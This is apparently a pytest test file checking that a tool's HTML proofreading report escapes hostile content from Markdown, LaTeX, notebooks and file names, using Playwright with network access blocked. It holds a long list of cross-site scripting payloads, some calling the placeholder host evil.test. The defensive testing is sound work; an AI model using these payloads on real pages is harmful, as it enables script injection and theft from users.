"""A document may say what it likes: in the report it is text, and nothing else.

Every payload stands in every place that a report shows: a statement, its words, its
label, a macro, a notebook, the name of a file. The report is opened from disk, where
no policy of a server stands between it and the reader.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from ddpm_lite.cli import main

# What `proofread --format html` is made of.
ELEMENTS = (
    " html head meta title style body main h1 h2 ul ol li p span div strong details "
    " summary code dl dt dd math mstyle mrow mi mn mo mtext mspace mfrac msqrt mroot "
    " msub msup msubsup munder mover munderover mtable mtr mtd "
)
ATTRIBUTES = (
    " lang charset name content class tabindex role aria-label width mathvariant "
    " stretchy form accent displaystyle data-limits "
)

BAD = "alert(1),fetch('//evil.test/')"
# Each of these acts, or leaves an element behind, where it is not escaped.
HTML = [
    f"<script>{BAD}</script>",
    f"<ScRiPt>{BAD}</sCrIpT>",
    "<script src=//evil.test/x.js></script>",
    f"<script>{BAD}//",
    f"<img src=x onerror={BAD}>",
    f'<img src="x" onerror="{BAD}"',
    "<img src=//evil.test/pixel.png>",
    f"<svg onload={BAD}>",
    f"<svg><script>{BAD}</script></svg>",
    f"<svg><animate onbegin={BAD} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{BAD}><text>x</text></a></svg>",
    f"<body onload={BAD}><b>",
    f"<details open ontoggle={BAD} onclick={BAD}>",
    f"<input autofocus onfocus={BAD}>",
    f"<video><source onerror={BAD}></video>",
    f"<iframe srcdoc='<script>parent.{BAD}</script>'></iframe>",
    f"<iframe src=javascript:{BAD}></iframe>",
    "<object data=//evil.test/x></object>",
    "<embed src=//evil.test/x>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content=0;url=//evil.test/>",
    "<form action=//evil.test/><button>go</button></form>",
    f"<a href=javascript:{BAD}>here</a>",
    f"<a href='&#106;avascript:{BAD}'>here</a>",
    "<style>@import url(//evil.test/x.css);</style>",
    "<table background=//evil.test/x><td>x",
    f"<math><annotation-xml encoding='text/html'><img src=x onerror={BAD}>",
    f"<math><mtext><table><mglyph><style><!--</style><img src=x onerror={BAD}>",
    f"<math href=javascript:{BAD}><mi>x</mi></math>",
    f"</code></details><img src=x onerror={BAD}>",
    f"</title></style></head><img src=x onerror={BAD}>",
    f"<!--><img src=x onerror={BAD}>",
    f"--><img src=x onerror={BAD}><!--",
    f"<![CDATA[><img src=x onerror={BAD}>]]>",
    f"<?x ><img src=x onerror={BAD}>",
    f"<x/onmouseover={BAD}>here</x>",
    f"<p title='</p><img src=x onerror={BAD}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={BAD}>'>",
    f"<template><b></template><img/src=x/onerror={BAD}>",
    "<plaintext>",
    "<textarea>",
]
# These act only where something decodes, or links, or leaves an attribute.
OTHER = [
    rf"\href{{javascript:{BAD}}}{{x}}",
    rf"\url{{javascript:{BAD}}}",
    rf"\htmlData{{x=1 onclick={BAD}}}{{x}}",
    rf"\class{{x\" onclick=\"{BAD}}}{{x}}",
    r"\style{background:url(//evil.test/x)}{x}",
    r"\includegraphics{//evil.test/x.png}",
    r"\unicode{x3C}script\unicode{x3E}",
    rf"&lt;script&gt;{BAD}&lt;/script&gt;",
    rf"&#60;script&#62;{BAD}&#60;/script&#62;",
    rf"\u003cscript\u003e{BAD}\x3c/script\x3e",
    f'" autofocus onfocus="{BAD}',
    f"' onmouseover='{BAD}",
    f"` onmouseover=`{BAD}",
    f"＜script＞{BAD}＜/script＞",
    f"\u202e<img src=x onerror={BAD}>",
    f"<im\u200bg src=x onerror={BAD}>",
    f"<scr\x00ipt>{BAD}</script>",
    f"+ADw-script+AD4-{BAD}+ADw-/script+AD4-",
    "<%= 7 * 7 %> {{ 7 * 7 }} ${7 * 7}",
]
CORPUS = HTML + OTHER

LOOK = """() => [...document.querySelectorAll("*")].flatMap((one) => [
  [one.localName, ""],
  ...one.getAttributeNames().map((name) => [one.localName, name])])"""
# Whatever waits for a hand, a mouse or a key.
TOUCH = """() => document.querySelectorAll("*").forEach((one) => {
  if (one.localName === "details") one.open = true;
  for (const what of ["mouseover", "focus", "focusin", "keydown", "toggle", "click"])
    one.dispatchEvent(new Event(what, {bubbles: false})); })"""


@pytest.fixture
def alarms(chrome: Any, tmp_path: Path) -> Iterator[Any]:
    """alarms(page's HTML) → what ran, was asked for or does not belong; the text."""
    from playwright.sync_api import Error

    context = chrome.new_context()
    context.route("**/*", lambda route: route.abort())
    context.route("file://**", lambda route: route.continue_())
    page, seen = context.new_page(), []
    page.on("dialog", lambda box: (seen.append("dialog"), box.dismiss()))
    page.on("pageerror", lambda error: seen.append(f"script: {error}"))
    file = tmp_path / "page.html"

    def asked(request: Any) -> None:
        if request.url != file.as_uri():
            seen.append(f"asks {request.url}")

    page.on("request", asked)

    def look(html: str) -> tuple[list[str], str]:
        seen.clear()
        text = ""
        file.write_text(html, encoding="utf-8", errors="surrogateescape")
        try:
            page.goto(file.as_uri(), wait_until="load")
            for element, attribute in page.evaluate(LOOK):
                if f" {element} " not in ELEMENTS:
                    seen.append(f"element {element}")
                if attribute and f" {attribute} " not in ATTRIBUTES:
                    seen.append(f"attribute {attribute}")
            page.evaluate(TOUCH)
            page.evaluate("() => new Promise((done) => setTimeout(done, 50))")
            text = page.evaluate("document.body.textContent")
        except Error as error:  # the page went elsewhere under our hands
            seen.append(str(error))
        if page.url != file.as_uri():
            seen.append(f"has moved to {page.url}")
        return list(seen), text

    yield look
    context.close()


def write(folder: Path) -> None:
    """Every payload in every place."""
    folder.mkdir()
    texts = []
    for one in CORPUS:
        texts += [
            f"$$\nx_0 = {one}\n$$\n",
            f"$$x_0 = \\text{{{one}}}$$ ({one})\n",
            f"$$ \\frac{{{one}}}{{2}} \\le \\mathrm{{{one}}} $$\n",
            f"Words, $x_t = {one}$, words {one}.\n",
            f"\\newcommand{{\\evil}}{{{one}}}\n\n$$\\evil = \\evil$$\n",
            f"```{{math}}\n:label: {one}\nx_0 = x_0\n```\n",
            f":::{{slip}} {one}\n$$\\beta_t = \\alpha_t$$ (slip-x)\n:::\n",
        ]
    (folder / "notes.md").write_text("\n".join(texts), encoding="utf-8")
    equations = (
        f"\\begin{{equation}}\\label{{{one}}}\n"
        f"\\begin{{{one}}} x_0 \\end{{{one}}} = x_0 \\tag{{{one}}}\n\\end{{equation}}\n"
        for one in CORPUS
    )
    (folder / "notes.tex").write_text("\n".join(equations), encoding="utf-8")
    cells = [
        {"cell_type": "markdown", "source": [f"$$x_0 = {one}$$"]} for one in CORPUS
    ]
    (folder / "cells.ipynb").write_text(json.dumps({"cells": cells}), encoding="utf-8")
    for one in CORPUS:  # a folder's name may hold all but a slash and a zero
        name = one.replace("/", "∕").replace("\x00", "")
        (folder / f"{name}.md").write_text("$$x_0 = x_0$$\n", encoding="utf-8")


def test_a_report_holds_the_document_as_text(
    alarms: Any, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    write(tmp_path / "evil")
    code = main(["proofread", "--format", "html", str(tmp_path / "evil")])
    html, err = capsys.readouterr()
    assert code in (0, 1), err
    found, text = alarms(html)
    assert found == []
    shown = " ".join(text.split())
    for one in HTML:  # nothing was left out to make it safe
        assert " ".join(one.split()) in shown, one


@pytest.mark.parametrize("one", HTML)
def test_the_payload_would_have_bitten(one: str, alarms: Any) -> None:
    """The same page without escapes: if this is quiet, the test above sees nothing."""
    frame = "<!doctype html><html><head><title>x</title></head><body><code>{}</code>"
    assert alarms(frame.format("x"))[0] == []
    assert alarms(frame.format(one))[0]
